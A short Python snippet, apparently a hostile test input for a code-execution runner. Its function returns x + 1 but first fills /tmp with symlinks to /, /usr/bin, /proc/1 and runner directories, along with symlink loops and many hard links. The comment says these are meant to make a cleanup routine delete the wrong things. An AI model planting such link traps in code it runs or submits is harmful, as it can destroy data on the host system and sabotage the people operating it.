# Links to the system, to each other and to themselves: whoever follows one removes something else.
import os


def f(x):
    for number, target in enumerate(("/", "/usr/bin", "/proc/1", "..", ".", "/opt/runner", "/dev/shm", "/run/runner")):
        os.symlink(target, f"/tmp/link{x}-{number}")
    os.symlink(f"/tmp/b{x}", f"/tmp/a{x}")
    os.symlink(f"/tmp/a{x}", f"/tmp/b{x}")
    os.symlink(f"/tmp/self{x}", f"/tmp/self{x}")
    os.mkdir(f"/tmp/folder{x}")
    os.symlink("/tmp", f"/tmp/folder{x}/back")
    open(f"/tmp/folder{x}/file", "w").close()
    for number in range(50):
        os.link(f"/tmp/folder{x}/file", f"/tmp/hard{x}-{number}")
    return x + 1
